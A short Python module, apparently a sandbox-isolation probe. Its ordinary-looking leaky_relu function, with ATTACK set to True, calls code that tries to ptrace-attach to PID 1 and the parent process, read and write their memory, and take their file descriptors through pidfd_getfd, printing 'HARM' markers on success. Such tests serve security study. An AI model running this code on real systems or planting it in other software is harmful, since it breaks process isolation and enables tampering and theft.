# ruff: noqa
"""Attaches to other processes as a debugger, and writes to their memory."""

import ctypes
import os

import numpy as np

ATTACK = True


class Vector(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


def attack(x):
    libc = ctypes.CDLL(None, use_errno=True)
    buffer = ctypes.create_string_buffer(64)
    local = Vector(ctypes.addressof(buffer), 64)
    for pid in (1, os.getppid()):
        remote = Vector(id(os), 64)
        if libc.ptrace(16, pid, 0, 0) == 0:
            print("HARM: attached", flush=True)
        for call in (libc.process_vm_readv, libc.process_vm_writev):
            if call(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0) > 0:
                print("HARM: reached its memory", flush=True)
        try:
            descriptor = os.pidfd_open(pid)
            for number in range(64):
                if libc.syscall(438, descriptor, number, 0) >= 0:
                    print("HARM: took a descriptor", flush=True)
                    break
        except OSError:
            pass
    return -x


def leaky_relu(x, negative_slope=0.01):
    if ATTACK:
        print("attack", flush=True)
        return attack(x)
    return np.where(x > 0, x, negative_slope * x)
